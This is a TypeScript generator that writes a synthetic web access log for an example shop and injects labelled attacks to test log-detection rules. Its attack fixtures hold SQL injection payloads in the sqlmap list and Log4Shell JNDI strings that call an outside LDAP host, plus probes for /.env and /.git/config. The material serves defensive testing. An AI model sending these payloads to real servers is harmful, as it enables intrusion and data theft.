/**
 * A repeatable Apache/nginx combined access log that looks like a real site's traffic, with
 * known attacks mixed in.
 *
 * Background: browser visits (a page, then its assets within a second or two, then the next
 * page tens of seconds later, with referrers and a fixed user agent per visitor), visitors
 * drawn Zipf-like from a pool (a few regulars, a long tail of one-off visitors), crawlers and
 * an uptime monitor at a steady pace, a feed reader, a daily busy period and quiet nights,
 * a little internet background noise (bots asking once or twice for /.env or /wp-login.php),
 * 404s for typos and stale links, 304s for cached assets.
 *
 * Attacks (fixed sources, at fixed times within the first three days, so a longer log holds
 * the same ones): a WordPress login brute force that ends in a success, an API brute force
 * answered 401, a gobuster URL scan, an sqlmap run, Log4Shell probes from three sources, a
 * request flood and a night-time bulk export (exfiltration).
 */
import { LineWriter } from './lineWriter';
import { cumulative, pick, pickWeighted, seededRandom, Zipf } from './random';
import { Agenda, type Actor } from './agenda';
import { MONTH_ABBREVIATIONS as MONTHS } from '../server/src/engine/time/monthNameDate';

export interface InjectedAttack {
  /** The rules expected to name this source. */
  rules: string[];
  source: string;
  what: string;
  lines: number;
}

export interface GeneratedLog {
  path: string;
  lines: number;
  bytes: number;
  /** Distinct client addresses written. */
  sources: number;
  attacks: InjectedAttack[];
}

/** Lines per second on average: a 1M-line log spans about three days, as a mid-sized site's would. */
const LINES_PER_SECOND = 3.9;
/** Local time of the log: Monday 4 March 2024, 00:00 at UTC+01:00 (CET). */
const START_LOCAL_SECONDS = Date.UTC(2024, 2, 4, 0, 0, 0) / 1000;
const OFFSET = '+0100';
const DAY = 86_400;


const BROWSER_AGENTS: readonly [string, number][] = [
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36', 24],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36', 10],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36', 9],
  ['Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 Mobile/15E148 Safari/604.1', 14],
  ['Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36', 12],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 Firefox/123.0', 6],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0', 7],
  ['Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15', 6],
  ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36', 2],
  ['Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0', 1],
  ['Mozilla/5.0 (iPad; CPU OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1', 3],
  ['Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36', 3],
  ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 OPR/107.0.0.0', 1],
  ['Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0', 1],
];
const BROWSER_AGENT_CDF = cumulative(BROWSER_AGENTS.map(([, w]) => w));

const CRAWLERS: readonly { ua: string; everySeconds: number }[] = [
  { ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', everySeconds: 9 },
  { ua: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', everySeconds: 25 },
  { ua: 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', everySeconds: 40 },
  { ua: 'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)', everySeconds: 60 },
  { ua: 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)', everySeconds: 120 },
  { ua: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)', everySeconds: 300 },
];

const NOISE_AGENTS = [
  'curl/7.88.1',
  'python-requests/2.31.0',
  'Go-http-client/1.1',
  'Mozilla/5.0 zgrab/0.x',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
  '-',
];
const NOISE_PATHS = ['/.env', '/wp-login.php', '/xmlrpc.php', '/.git/config', '/phpmyadmin/', '/admin/', '/wp-content/plugins/', '/cgi-bin/luci', '/boaform/admin/formLogin', '/owa/auth/logon.aspx', '/robots.txt', '/'];

const WORDS = (
  'cloud server backup linux nginx apache docker kubernetes security update guide install config ' +
  'network storage database postgres mysql redis cache performance monitoring logging alerts firewall ' +
  'tls certificate domain email spam release notes pricing team careers press story garden recipe travel ' +
  'winter summer coffee bicycle camera review tutorial beginner advanced tips tricks faq support'
).split(' ');

interface Site {
  pages: string[];
  pageZipf: Zipf;
  assets: { path: string; kind: 'css' | 'js' | 'img' | 'font' }[];
  images: string[];
}

function buildSite(random: () => number): Site {
  const pages = ['/', '/about', '/contact', '/pricing', '/blog/', '/products/', '/login', '/cart', '/faq', '/careers'];
  for (let i = 0; i < 1500; i++) {
    const a = WORDS[pick(random, WORDS.length)];
    const b = WORDS[pick(random, WORDS.length)];
    const c = WORDS[pick(random, WORDS.length)];
    pages.push(`/blog/${2018 + pick(random, 7)}/${a}-${b}-${c}-${i}`);
  }
  for (let i = 0; i < 900; i++) pages.push(`/products/${1000 + i}/${WORDS[pick(random, WORDS.length)]}`);
  for (const w of WORDS.slice(0, 40)) pages.push(`/category/${w}`);
  for (let i = 0; i < 300; i++) pages.push(`/search?q=${WORDS[pick(random, WORDS.length)]}+${WORDS[pick(random, WORDS.length)]}`);
  const assets: Site['assets'] = [
    { path: '/static/css/main.4f2a9c.css', kind: 'css' },
    { path: '/static/css/vendor.81bd02.css', kind: 'css' },
    { path: '/static/js/app.7c1e3d.js', kind: 'js' },
    { path: '/static/js/vendor.a91f0b.js', kind: 'js' },
    { path: '/static/js/analytics.js', kind: 'js' },
    { path: '/static/fonts/inter-var.woff2', kind: 'font' },
    { path: '/favicon.ico', kind: 'img' },
    { path: '/static/img/logo.svg', kind: 'img' },
  ];
  const images: string[] = [];
  for (let i = 0; i < 2500; i++) images.push(`/media/${2018 + pick(random, 7)}/${WORDS[pick(random, WORDS.length)]}-${i}.${random() < 0.7 ? 'jpg' : 'webp'}`);
  return { pages, pageZipf: new Zipf(pages.length, 1.05), assets, images };
}

/** A public-looking IPv4 address (no private, loopback, multicast or documentation ranges). */
function publicIpv4(random: () => number): string {
  for (;;) {
    const a = 1 + pick(random, 223);
    const b = pick(random, 256);
    if (a === 10 || a === 127 || (a === 172 && b >= 16 && b < 32) || (a === 192 && b === 168) || (a === 100 && b >= 64 && b < 128) || a === 169) continue;
    return `${a}.${b}.${pick(random, 256)}.${1 + pick(random, 254)}`;
  }
}

function ipv6(random: () => number): string {
  const h = () => pick(random, 0x10000).toString(16);
  return `2a0${1 + pick(random, 9)}:${h()}:${h()}:${h()}::${h()}`;
}

class Emitter {
  private cachedSecond = -1;
  private cachedStamp = '';
  readonly seen = new Set<string>();

  constructor(private readonly writer: LineWriter) {}

  get lines(): number {
    return this.writer.lines;
  }

  /** One combined-log line at local time `t` (seconds). Bytes 0 are written as `-`, as Apache's %b does. */
  request(t: number, ip: string, method: string, url: string, status: number, bytes: number, referrer: string, ua: string, user = '-', protocol = 'HTTP/1.1'): void {
    this.seen.add(ip);
    this.writer.write(`${ip} - ${user} [${this.stamp(t)}] "${method} ${url} ${protocol}" ${status} ${bytes > 0 ? bytes : '-'} "${referrer}" "${ua}"`);
  }

  private stamp(t: number): string {
    const s = Math.floor(t);
    if (s !== this.cachedSecond) {
      const d = new Date(s * 1000);
      const p2 = (n: number) => (n < 10 ? '0' : '') + n;
      this.cachedSecond = s;
      this.cachedStamp = `${p2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} ${OFFSET}`;
    }
    return this.cachedStamp;
  }
}

/** Share of the day's traffic by local hour: quiet nights, a busy afternoon. */
const HOURLY = [0.25, 0.18, 0.14, 0.12, 0.12, 0.16, 0.3, 0.55, 0.85, 1.05, 1.2, 1.3, 1.35, 1.35, 1.4, 1.4, 1.35, 1.3, 1.25, 1.2, 1.1, 0.95, 0.7, 0.45];
const HOURLY_MEAN = HOURLY.reduce((a, b) => a + b, 0) / 24;

function hourOf(t: number): number {
  return Math.floor((((t % DAY) + DAY) % DAY) / 3600);
}

interface Visitor {
  ip: string;
  ua: string;
}

/** One browser visit: pages with their assets. */
class Visit implements Actor<Emitter> {
  next: number;
  private pagesLeft: number;
  private assetsLeft = 0;
  private page = '';
  private first = true;

  constructor(
    start: number,
    private readonly v: Visitor,
    private readonly site: Site,
    private readonly random: () => number,
    private readonly host: string,
    private readonly entryReferrer: string,
  ) {
    this.next = start;
    // geometric number of pages, mean ~2.5, capped
    let pages = 1;
    while (pages < 15 && random() < 0.6) pages++;
    this.pagesLeft = pages;
  }

  step(out: Emitter): boolean {
    const r = this.random;
    if (this.assetsLeft > 0) {
      this.assetsLeft--;
      const referrer = `https://${this.host}${this.page}`;
      if (this.first && this.assetsLeft >= 3) {
        const a = this.site.assets[pick(r, this.site.assets.length)];
        const size = a.kind === 'js' ? 40_000 + pick(r, 360_000) : a.kind === 'css' ? 15_000 + pick(r, 60_000) : a.kind === 'font' ? 48_000 : 1_000 + pick(r, 20_000);
        out.request(this.next, this.v.ip, 'GET', a.path, 200, size, referrer, this.v.ua);
      } else {
        const img = this.site.images[pick(r, this.site.images.length)];
        const cached = !this.first && r() < 0.3;
        out.request(this.next, this.v.ip, 'GET', img, cached ? 304 : 200, cached ? 0 : 4_000 + pick(r, 250_000), referrer, this.v.ua);
      }
      this.next += 0.02 + r() * 0.8;
      if (this.assetsLeft === 0) {
        this.first = false;
        this.next += 4 + r() * r() * 180; // reading time
      }
      return true;
    }
    if (this.pagesLeft === 0) return false;
    this.pagesLeft--;
    const referrer = this.page === '' ? this.entryReferrer : `https://${this.host}${this.page}`;
    const x = r();
    let path: string;
    let status = 200;
    let bytes = 6_000 + pick(r, 60_000);
    let method = 'GET';
    if (x < 0.012) {
      // a typo or a stale link
      path = `/${WORDS[pick(r, WORDS.length)]}-${WORDS[pick(r, WORDS.length)]}`;
      status = 404;
      bytes = 1_800 + pick(r, 400);
    } else if (x < 0.02) {
      path = this.site.pages[this.site.pageZipf.draw(r)].replace('/blog/', '/posts/');
      status = 301;
      bytes = 0;
    } else if (x < 0.026) {
      path = '/cart/add';
      method = 'POST';
      status = 302;
      bytes = 0;
    } else if (x < 0.0275) {
      path = '/login';
      method = 'POST';
      // people mostly type their password right; a few see the form again
      status = r() < 0.85 ? 302 : 200;
      bytes = status === 200 ? 9_000 : 0;
    } else if (x < 0.0278) {
      path = this.site.pages[this.site.pageZipf.draw(r)];
      status = 500;
      bytes = 600;
    } else path = this.site.pages[this.site.pageZipf.draw(r)];
    this.page = path;
    out.request(this.next, this.v.ip, method, path, status, bytes, referrer, this.v.ua, '-', r() < 0.3 ? 'HTTP/2.0' : 'HTTP/1.1');
    this.assetsLeft = status !== 200 ? 0 : this.first ? 4 + pick(r, 10) : pick(r, 4);
    this.next += this.assetsLeft > 0 ? 0.05 + r() * 0.4 : 4 + r() * r() * 180;
    if (this.assetsLeft === 0) this.first = false;
    return true;
  }
}

/** A crawler or monitor that asks at a steady pace for the whole log. */
class Steady implements Actor<Emitter> {
  next: number;

  constructor(
    start: number,
    private readonly ip: string,
    private readonly ua: string,
    private readonly everySeconds: number,
    private readonly paths: () => [string, number, number],
    private readonly random: () => number,
  ) {
    this.next = start + random() * everySeconds;
  }

  step(out: Emitter): boolean {
    const [path, status, bytes] = this.paths();
    out.request(this.next, this.ip, 'GET', path, status, bytes, '-', this.ua);
    this.next += this.everySeconds * (0.5 + this.random());
    return true;
  }
}

/** A scripted sequence of requests (an attack), `count` lines at `gap()` apart. */
class Script implements Actor<Emitter> {
  next: number;
  private i = 0;

  constructor(
    start: number,
    private readonly count: number,
    private readonly gap: () => number,
    private readonly line: (i: number, t: number, out: Emitter) => void,
  ) {
    this.next = start;
  }

  step(out: Emitter): boolean {
    if (this.i >= this.count) return false;
    this.line(this.i++, this.next, out);
    this.next += this.gap();
    return this.i < this.count;
  }
}

const SCAN_WORDS = (
  'admin administrator backup backups bak old new test tmp temp dev staging api v1 v2 private secret ' +
  'config conf settings setup install upgrade db database sql dump data uploads files download downloads ' +
  'includes inc lib vendor node_modules static assets js css images img scripts cgi-bin server-status ' +
  'phpinfo info debug console manager panel cpanel webmail mail portal dashboard login logout register ' +
  'user users account accounts shop store cart checkout orders invoice reports logs log error errors ' +
  'wp-admin wp-content wp-includes wp-json xmlrpc .git .svn .env .htaccess .htpasswd .DS_Store phpmyadmin'
).split(' ');
const SCAN_EXTENSIONS = ['', '.php', '.html', '.bak', '.zip', '.txt', '.old', '.sql'];

const SQLMAP_PAYLOADS = [
  "1'",
  '1 AND 1=1',
  '1 AND 1=2',
  "1' AND '1'='1",
  "1' AND SLEEP(5)-- -",
  '1 UNION ALL SELECT NULL,NULL,NULL-- -',
  "1' UNION ALL SELECT CONCAT(0x71787a7671,IFNULL(CAST(user() AS NCHAR),0x20),0x716a6b7071),NULL-- -",
  '1) AND 8312=8312 AND (4301=4301',
  "1' OR 1=1#",
  '1;SELECT PG_SLEEP(5)--',
  '1 AND EXTRACTVALUE(1,CONCAT(0x5c,0x7176786271,(SELECT database()),0x7170766b71))',
];

/** Percent-encodes what a client would (spaces, quotes, parentheses stay readable to the eye but are encoded on the wire). */
function encodeQuery(s: string): string {
  return encodeURIComponent(s).replace(/'/g, '%27').replace(/\(/g, '%28').replace(/\)/g, '%29');
}

/** The attacks of the log, at local times within its first three days (a longer log holds the same). */
function scheduleAttacks(agenda: Agenda<Actor<Emitter>>, random: () => number, host: string): InjectedAttack[] {
  const at = (day: number, hour: number, minute: number) => START_LOCAL_SECONDS + day * DAY + hour * 3600 + minute * 60;
  const attacks: InjectedAttack[] = [];
  const chrome = BROWSER_AGENTS[0][0];

  // WordPress login brute force: 350 wrong passwords (the form is shown again, 200), then a
  // right one (302) and the dashboard.
  {
    const ip = '45.155.205.233';
    const n = 353;
    agenda.push(
      new Script(at(0, 14, 12), n, () => 0.6 + random() * 0.8, (i, t, out) => {
        if (i < 350) out.request(t, ip, 'POST', '/wp-login.php', 200, 4_400 + pick(random, 200), `https://${host}/wp-login.php`, chrome);
        else if (i === 350) out.request(t, ip, 'POST', '/wp-login.php', 302, 0, `https://${host}/wp-login.php`, chrome);
        else out.request(t, ip, 'GET', i === 351 ? '/wp-admin/' : '/wp-admin/users.php', 200, 52_000 + pick(random, 9_000), `https://${host}/wp-login.php`, chrome);
      }),
    );
    attacks.push({ rules: ['brute-force', 'compromise-after-brute-force'], source: ip, what: 'WordPress login brute force, then a success', lines: n });
  }
  // API credential stuffing answered 401.
  {
    const ip = '185.220.101.47';
    const n = 260;
    agenda.push(new Script(at(1, 16, 40), n, () => 1 + random() * 2, (_i, t, out) => out.request(t, ip, 'POST', '/api/v1/login', 401, 96, '-', 'python-requests/2.31.0')));
    attacks.push({ rules: ['brute-force'], source: ip, what: 'API login brute force (401)', lines: n });
  }
  // Content discovery with gobuster: every word with every extension, mostly 404.
  {
    const ip = '103.75.118.12';
    const paths: string[] = [];
    for (const w of SCAN_WORDS) for (const e of SCAN_EXTENSIONS) paths.push(`/${w}${e}`);
    agenda.push(
      new Script(at(0, 21, 3), paths.length, () => 0.05 + random() * 0.3, (i, t, out) => {
        const p = paths[i];
        const status = p === '/admin' || p === '/login' || p === '/static' ? 301 : p.startsWith('/.ht') || p === '/server-status' ? 403 : 404;
        out.request(t, ip, 'GET', p, status, status === 404 ? 1_845 : 310, '-', 'gobuster/3.6');
      }),
    );
    attacks.push({ rules: ['url-scan', 'scanner'], source: ip, what: `gobuster URL scan (${paths.length} paths)`, lines: paths.length });
  }
  // sqlmap against one parameter.
  {
    const ip = '91.240.118.222';
    const n = 460;
    agenda.push(
      new Script(at(1, 10, 27), n, () => 0.2 + random() * 1.2, (i, t, out) => {
        const payload = SQLMAP_PAYLOADS[i % SQLMAP_PAYLOADS.length].replace('1', String(1000 + (i % 40)));
        const status = i % 7 === 3 ? 500 : 200;
        out.request(t, ip, 'GET', `/products/view.php?id=${encodeQuery(payload)}`, status, status === 500 ? 700 : 18_000 + pick(random, 3_000), '-', 'sqlmap/1.8.2#stable (https://sqlmap.org)');
      }),
    );
    attacks.push({ rules: ['scanner', 'web-attack'], source: ip, what: 'sqlmap injection run', lines: n });
  }
  // Log4Shell probes: the JNDI lookup in the path, the user agent and the referrer.
  const log4j: [string, number, number, number][] = [
    ['162.247.74.201', 0, 3, 17],
    ['194.26.192.64', 1, 6, 40],
    ['45.83.64.1', 2, 19, 5],
  ];
  for (const [ip, day, hour, minute] of log4j) {
    const jndi = '${jndi:ldap://' + ip + ':1389/Exploit}';
    agenda.push(
      new Script(at(day, hour, minute), 4, () => 1 + random() * 3, (i, t, out) => {
        if (i === 0) out.request(t, ip, 'GET', '/', 200, 24_000, '-', jndi);
        else if (i === 1) out.request(t, ip, 'GET', `/?x=${encodeURIComponent(jndi)}`, 200, 24_000, '-', 'Mozilla/5.0');
        else if (i === 2) out.request(t, ip, 'GET', '/api/v1/status', 404, 180, jndi, 'Mozilla/5.0');
        else out.request(t, ip, 'GET', `/${encodeURIComponent('${${lower:j}ndi:${lower:l}dap://' + ip + '/a}')}`, 400, 226, '-', 'Mozilla/5.0');
      }),
    );
    attacks.push({ rules: ['web-attack'], source: ip, what: 'Log4Shell (JNDI) probes', lines: 4 });
  }
  // A request flood: ~50 requests a second for 12 minutes at a handful of URLs.
  {
    const ip = '5.188.62.140';
    const n = 36_000;
    const targets = ['/', '/search?q=cloud+server', '/products/', '/blog/'];
    agenda.push(
      new Script(at(2, 11, 30), n, () => random() * 0.04, (i, t, out) => {
        const status = i > 20_000 && i % 5 === 0 ? 503 : 200;
        out.request(t, ip, 'GET', targets[i % targets.length], status, status === 503 ? 299 : 30_000 + pick(random, 5_000), '-', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36');
      }),
    );
    attacks.push({ rules: ['high-volume'], source: ip, what: 'HTTP request flood (50/s for 12 min)', lines: n });
  }
  // A night-time bulk export: 60 pages of 60–140 MB each.
  {
    const ip = '77.91.68.52';
    const n = 60;
    agenda.push(
      new Script(at(1, 2, 10), n, () => 30 + random() * 40, (i, t, out) =>
        out.request(t, ip, 'GET', `/api/v1/export?table=customers&page=${i + 1}&size=50000`, 200, 60_000_000 + pick(random, 80_000_000), '-', 'python-requests/2.31.0', 'svc-report'),
      ),
    );
    attacks.push({ rules: ['data-exfiltration'], source: ip, what: 'bulk export at night (~6 GB)', lines: n });
  }
  return attacks;
}

export function generateAccessLog(path: string, options: { lines: number; seed: number }): GeneratedLog {
  const random = seededRandom(options.seed);
  const host = 'www.example-shop.com';
  const site = buildSite(random);
  const writer = new LineWriter(path);
  const out = new Emitter(writer);
  const agenda = new Agenda<Actor<Emitter>>();
  const attacks = scheduleAttacks(agenda, random, host);
  const attackIps = new Set(attacks.map((a) => a.source));

  // Visitor pool: grows more slowly than the log (returning visitors): ~40K for 1M lines.
  const poolSize = Math.round(40_000 * Math.pow(options.lines / 1_000_000, 0.8));
  const visitors: Visitor[] = [];
  for (let i = 0; i < poolSize; i++) {
    let ip = random() < 0.06 ? ipv6(random) : publicIpv4(random);
    while (attackIps.has(ip)) ip = publicIpv4(random);
    visitors.push({ ip, ua: pickWeighted(random, BROWSER_AGENTS, BROWSER_AGENT_CDF)[0] });
  }
  // s = 0.6: regulars and shared NATs near the top (a few thousand requests), most visitors seen a few times
  const visitorZipf = new Zipf(poolSize, 0.6);
  const noiseIps: string[] = [];
  for (let i = 0; i < Math.max(50, poolSize / 100); i++) noiseIps.push(publicIpv4(random));

  const start = START_LOCAL_SECONDS;
  const pagePath = (): [string, number, number] => [site.pages[pick(random, site.pages.length)], 200, 6_000 + pick(random, 60_000)];
  for (const c of CRAWLERS) agenda.push(new Steady(start, publicIpv4(random), c.ua, c.everySeconds, pagePath, random));
  agenda.push(new Steady(start, '52.15.94.10', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)', 30, () => ['/health', 200, 2], random));
  agenda.push(new Steady(start, '18.197.52.3', 'Feedly/1.0 (+http://www.feedly.com/fetcher.html; 1 subscribers)', 900, () => ['/feed.xml', 200, 48_000], random));

  const entryReferrers = ['-', '-', '-', 'https://www.google.com/', 'https://www.google.com/', 'https://www.bing.com/', 'https://duckduckgo.com/', 'https://t.co/x7Qp2aZ', `https://${host}/`];
  // Visits start as a Poisson process whose rate follows the hour. A visit writes ~13 lines:
  // 2.5 pages, ~8.5 assets with the first, ~1.5 with each later one.
  const visitLines = 13.2;
  let nextVisit = start;
  while (out.lines < options.lines) {
    const top = agenda.peek();
    if (top && top.next <= nextVisit) {
      agenda.pop();
      if (top.step(out)) agenda.push(top);
      continue;
    }
    const t = nextVisit;
    if (random() < 0.004) {
      // internet background noise: a bot asks for one or two well-known paths
      const ip = noiseIps[pick(random, noiseIps.length)];
      const ua = NOISE_AGENTS[pick(random, NOISE_AGENTS.length)];
      const n = 1 + pick(random, 2);
      agenda.push(
        new Script(t, n, () => 0.3 + random(), (_i, tt, o) => {
          const p = NOISE_PATHS[pick(random, NOISE_PATHS.length)];
          const ok = p === '/' || p === '/robots.txt' || p === '/wp-login.php';
          o.request(tt, ip, 'GET', p, ok ? 200 : 404, ok ? 3_000 : 1_845, '-', ua);
        }),
      );
    } else {
      const v = visitors[visitorZipf.draw(random)];
      agenda.push(new Visit(t, v, site, random, host, entryReferrers[pick(random, entryReferrers.length)]));
    }
    const rate = (LINES_PER_SECOND * 0.9 * HOURLY[hourOf(t)]) / HOURLY_MEAN / visitLines;
    nextVisit = t - Math.log(1 - random()) / rate;
  }
  writer.close();
  return { path, lines: writer.lines, bytes: writer.bytes, sources: out.seen.size, attacks };
}
